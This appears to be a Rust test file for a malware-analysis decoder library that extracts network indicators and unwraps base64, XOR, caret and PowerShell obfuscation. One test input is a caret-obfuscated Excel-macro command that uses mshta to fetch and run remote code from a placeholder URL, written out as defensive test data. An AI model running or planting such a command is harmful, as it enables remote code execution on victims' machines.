use multidecoder::{builtin_decoders, flatten, from_json, obfuscation_counts, scan, string_summary, to_json};

mod ioc_extraction {
    use super::*;

    #[test]
    fn extracts_url_with_nested_domain() {
        let tree = scan(b"https://some.domain.com", &builtin_decoders());
        let url = tree.children.iter().find(|c| c.node_type == "network.url").unwrap();
        let domain = url.children.iter().find(|c| c.node_type == "network.domain").unwrap();
        assert_eq!(domain.value, b"some.domain.com");
    }

    #[test]
    fn extracts_multiple_sibling_iocs_in_order() {
        let tree = scan(b"google.com, amazon.com, 8.8.8.8", &builtin_decoders());
        let types: Vec<&str> = tree.children.iter().map(|c| c.node_type.as_str()).collect();
        assert_eq!(types, vec!["network.domain", "network.domain", "network.ip"]);
    }
}

mod layered_obfuscation {
    use super::*;

    #[test]
    fn unwraps_base64_then_xor_to_reveal_keyword() {
        let tree = scan(b"FromBase64String('R1ZASA==')\n-bxor 35", &builtin_decoders());
        let xored = tree.iter_descendants().find(|n| n.obfuscation.starts_with("cipher.xor")).unwrap();
        assert_eq!(xored.value, b"duck");
    }

    #[test]
    fn unwraps_caret_obfuscated_cmd_to_reveal_url() {
        let tree = scan(
            b"SET.NAME(a , cmd /c m^sh^t^a h^tt^p^:/^/some.url/x.html)",
            &builtin_decoders(),
        );
        let url = tree.iter_descendants().find(|n| n.node_type == "network.url").unwrap();
        assert_eq!(url.value, b"http://some.url/x.html");
    }

    #[test]
    fn unwraps_powershell_encoded_command() {
        let tree = scan(b"powershell /e ZQBjAGgAbwAgAGIAZQBlAA==", &builtin_decoders());
        let pwsh = tree.iter_descendants().find(|n| n.node_type == "shell.powershell").unwrap();
        assert_eq!(pwsh.value, b"powershell -Command echo bee");
    }
}

mod false_positive_suppression {
    use super::*;

    #[test]
    fn does_not_flag_shared_library_names_as_domains() {
        let tree = scan(b"libm.so", &builtin_decoders());
        assert!(!tree.iter_descendants().any(|n| n.node_type == "network.domain"));
    }

    #[test]
    fn does_not_flag_member_access_chains_as_domains() {
        let tree = scan(b"this.name and Array.prototype.map", &builtin_decoders());
        assert!(!tree.iter_descendants().any(|n| n.node_type == "network.domain"));
    }

    #[test]
    fn does_not_flag_version_strings_as_ip_addresses() {
        let tree = scan(b"Version=4.0.0.1", &builtin_decoders());
        assert!(!tree.iter_descendants().any(|n| n.node_type == "network.ip"));
    }
}

mod query_surface {
    use super::*;

    #[test]
    fn flatten_reproduces_deobfuscated_stream() {
        use base64::Engine;
        let encoded = base64::engine::general_purpose::STANDARD.encode(b"Some base64 encoded text");
        let tree = scan(encoded.as_bytes(), &builtin_decoders());
        assert_eq!(flatten(&tree), b"Some base64 encoded text");
    }

    #[test]
    fn string_summary_lists_every_descendant() {
        let tree = scan(b"google.com, 8.8.8.8", &builtin_decoders());
        let lines = string_summary(&tree);
        assert_eq!(lines.len(), 2);
        assert!(lines[0].starts_with("network.domain "));
        assert!(lines[1].starts_with("network.ip "));
    }

    #[test]
    fn obfuscation_counts_tallies_across_the_tree() {
        let tree = scan(b"FromBase64String('R1ZASA==')\n-bxor 35", &builtin_decoders());
        let counts = obfuscation_counts(&tree);
        assert_eq!(counts.get("encoding.base64"), Some(&1));
        assert_eq!(counts.get("cipher.xor35"), Some(&1));
    }
}

mod json_interop {
    use super::*;

    #[test]
    fn round_trips_a_scanned_tree_through_json() {
        let tree = scan(b"google.com, 8.8.8.8", &builtin_decoders());
        let text = to_json(&tree).unwrap();
        let parsed = from_json(&text).unwrap();
        assert_eq!(parsed, tree);
    }
}
